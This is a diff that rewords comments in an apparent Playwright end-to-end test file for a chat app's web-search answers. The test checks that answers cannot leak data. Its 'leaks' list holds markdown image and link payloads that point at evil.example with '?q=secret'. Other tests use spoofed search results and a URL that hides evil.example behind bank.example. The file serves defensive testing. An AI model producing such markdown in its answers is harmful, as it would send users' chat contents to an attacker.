@@ -1,8 +1,7 @@
 /*
- * The web in a chat: searched, cited, opened at the place; what was sent; and
- * answers that try to carry data out by links and pictures (F03, F11). The
- * server runs in this process, so that its guard can be let through to the
- * pages here; every other address stays closed.
+ * Web search in a chat: searched, cited, opened at the passage; request records; and answers that try to exfiltrate
+ * data through links and pictures (F03, F11). The server runs in this process, so that its guard can let the pages
+ * here through; every other address stays blocked.
  */
 import { afterAll, beforeAll, expect, test } from "vitest";
 import type { Page } from "playwright-core";
@@ -16,7 +15,7 @@ import { ready, seriousFindings, settled } from "./steps.ts";
 const fact = "The dance language of honeybees tells the distance and the direction of a source of food.";
 const filler = (about: string) =>
   `What is known about ${about} has grown over the years, and much of it was found by patient watching, day after day, in gardens and in fields.`;
-/** What would carry words out of a chat, were it ever asked for. */
+/** Markup that would leak a chat's words if the browser ever requested it. */
 const leaks = [
   "![one](https://evil.example/one?q=secret)",
   "![two][ref]\n\n[ref]: https://evil.example/two?q=secret",
@@ -33,7 +32,7 @@ const leaks = [
 
 const host = "a-rather-long-name.of-a-paper.example";
 
-/** What the search service answers instead of the one page, while there is something here. */
+/** Search results that replace the one page, if any are set. */
 const spoofs: { url: string; title: string; content: string }[] = [];
 
 const dot = Buffer.from(
@@ -139,7 +138,7 @@ test("F03: an answer full of pictures and addresses makes the browser ask for no
   for (const link of await links.all()) {
     await link.hover();
     expect(await link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
-    // Where it leads is written out, or said under the pointer.
+    // Its target is spelled out, or shown on hover.
     expect(`${await link.innerText()} ${await link.getAttribute("title")}`).toContain("evil.example");
   }
   await page.reload();
@@ -166,7 +165,7 @@ test("F11: a number that has no source says so, and a page's host is the one it 
   await expect.poll(() => chips.first().getAttribute("data-verdict")).toBe("no-source");
   expect(await answers(page).locator(".answer").innerText()).not.toContain("[[99]]");
   expect(await answers(page).locator("a[href]").innerText()).toBe("https://bank.example (evil.example)");
-  // An address that hides its host behind a name is no source at all.
+  // An address that hides its host behind user info is not accepted as a source.
   await expect.poll(() => page.getByRole("region", { name: "Sources" }).getByRole("listitem").count()).toBe(1);
   spoofs.length = 0;
 });
